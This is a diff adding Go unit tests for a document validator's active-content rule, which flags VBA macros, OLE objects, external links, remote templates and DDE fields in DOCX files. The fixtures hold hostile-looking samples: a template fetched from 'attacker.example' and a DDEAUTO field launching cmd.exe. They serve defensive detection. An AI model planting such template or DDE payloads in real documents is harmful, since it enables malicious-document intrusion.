@@ -0,0 +1,145 @@
+package validator
+
+import (
+	"fmt"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/qnhqn1/file-validator/config"
+)
+
+const (
+	relsHeader = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
+	relsFooter = `</Relationships>`
+)
+
+func activeContentEngine(t *testing.T, policies map[string]string) *Engine {
+	engine, err := profileEngine(config.ProfileConfig{
+		Rules:         []string{ruleActiveContent},
+		ActiveContent: config.ActiveContentConfig{Policies: policies},
+	})
+	require.NoError(t, err)
+	return engine
+}
+
+func activeKinds(res RuleResult) []string {
+	var kinds []string
+	for _, f := range res.Details["findings"].([]activeFinding) {
+		kinds = append(kinds, f.Kind)
+	}
+	return kinds
+}
+
+const plainParagraph = `<w:p><w:r><w:t>Договор от 01.02.2024</w:t></w:r></w:p>`
+
+func TestActiveContent_MacroRejected(t *testing.T) {
+	payload := createDOCX(plainParagraph, map[string]string{
+		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
+			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>` +
+			`<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
+		"word/vbaProject.bin": "VBA",
+	})
+
+	report := activeContentEngine(t, nil).Run(Request{Payload: payload})
+	require.False(t, report.Valid())
+	res, ok := report.Result(ruleActiveContent)
+	require.True(t, ok)
+	require.Equal(t, CodeActiveContent, res.Code)
+	require.Equal(t, []string{contentMacro, contentMacro, contentMacro}, activeKinds(res))
+	require.Contains(t, res.Message, "макрос VBA")
+
+	report = activeContentEngine(t, map[string]string{contentMacro: config.PolicyAllow}).Run(Request{Payload: payload})
+	require.True(t, report.Valid(), report.Failures())
+}
+
+func TestActiveContent_ExternalRelationships(t *testing.T) {
+	payload := createDOCX(plainParagraph, map[string]string{
+		"word/_rels/document.xml.rels": relsHeader +
+			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org" TargetMode="External"/>` +
+			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///C:/data.xlsx" TargetMode="External"/>` +
+			relsFooter,
+		"word/embeddings/oleObject1.bin": "OLE",
+	})
+
+	report := activeContentEngine(t, nil).Run(Request{Payload: payload})
+	// Внешняя связь и OLE-объект по умолчанию только предупреждают.
+	require.True(t, report.Valid(), report.Failures())
+	res, _ := report.Result(ruleActiveContent)
+	require.Equal(t, StatusWarning, res.Status)
+	require.Equal(t, []string{contentExternalHyperlink, contentExternalRelationship, contentOLEObject}, activeKinds(res))
+	findings := res.Details["findings"].([]activeFinding)
+	require.Equal(t, "word/_rels/document.xml.rels#rId2", findings[1].Location)
+	require.Equal(t, config.PolicyAllow, findings[0].Policy)
+
+	report = activeContentEngine(t, map[string]string{contentOLEObject: config.PolicyReject}).Run(Request{Payload: payload})
+	require.Equal(t, CodeActiveContent, report.FirstFailureCode())
+}
+
+func TestActiveContent_RemoteTemplate(t *testing.T) {
+	payload := createDOCX(plainParagraph, map[string]string{
+		"word/settings.xml": `<w:settings ` + wordNS + ` xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`,
+		"word/_rels/settings.xml.rels": relsHeader +
+			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>` +
+			relsFooter,
+	})
+
+	res, _ := activeContentEngine(t, nil).Run(Request{Payload: payload}).Result(ruleActiveContent)
+	require.Equal(t, StatusFailed, res.Status)
+	require.Equal(t, []string{contentRemoteTemplate}, activeKinds(res))
+	require.Contains(t, res.Message, "удалённый шаблон (word/_rels/settings.xml.rels#rId1)")
+}
+
+func TestActiveContent_DDEFields(t *testing.T) {
+	// Код поля разбит на два w:instrText.
+	complexField := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
+		`<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>` +
+		`<w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>` +
+		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>` +
+		`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
+	simpleField := `<w:p><w:fldSimple w:instr=" DDE Excel Sheet1 "><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>`
+	pageField := `<w:p><w:fldSimple w:instr=" PAGE "/></w:p>`
+
+	res, _ := activeContentEngine(t, nil).Run(Request{Payload: createDOCX(complexField+simpleField+pageField, nil)}).Result(ruleActiveContent)
+	require.Equal(t, StatusFailed, res.Status)
+	require.Equal(t, []string{contentDDE, contentDDE}, activeKinds(res))
+	findings := res.Details["findings"].([]activeFinding)
+	require.Equal(t, "word/document.xml", findings[0].Location)
+	require.Contains(t, findings[0].Detail, "DDEAUTO")
+}
+
+func TestActiveContent_CapsReportedFindings(t *testing.T) {
+	rels := relsHeader
+	for i := 0; i < 2*maxReportedActiveContent; i++ {
+		rels += fmt.Sprintf(`<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/%d" TargetMode="External"/>`, i, i)
+	}
+	payload := createDOCX(plainParagraph, map[string]string{
+		"word/_rels/document.xml.rels": rels + relsFooter,
+		"word/vbaProject.bin":          "VBA",
+	})
+
+	res, _ := activeContentEngine(t, nil).Run(Request{Payload: payload}).Result(ruleActiveContent)
+	require.Equal(t, StatusFailed, res.Status)
+	require.Len(t, res.Details["findings"], maxReportedActiveContent)
+	require.Equal(t, map[string]int{contentExternalHyperlink: 2 * maxReportedActiveContent, contentMacro: 1}, res.Details["counts"])
+	require.Contains(t, res.Message, "макрос VBA")
+}
+
+func TestActiveContent_CleanDocumentPasses(t *testing.T) {
+	res, _ := activeContentEngine(t, nil).Run(Request{Payload: createDOCX(plainParagraph, nil)}).Result(ruleActiveContent)
+	require.Equal(t, StatusPassed, res.Status)
+}
+
+func TestActiveContent_InvalidPolicyConfig(t *testing.T) {
+	_, err := profileEngine(config.ProfileConfig{
+		Rules:         []string{ruleActiveContent},
+		ActiveContent: config.ActiveContentConfig{Policies: map[string]string{"javascript": config.PolicyReject}},
+	})
+	require.ErrorContains(t, err, "неизвестный вид активного содержимого javascript")
+
+	_, err = profileEngine(config.ProfileConfig{
+		Rules:         []string{ruleActiveContent},
+		ActiveContent: config.ActiveContentConfig{Policies: map[string]string{contentMacro: "block"}},
+	})
+	require.ErrorContains(t, err, `неизвестная политика "block"`)
+}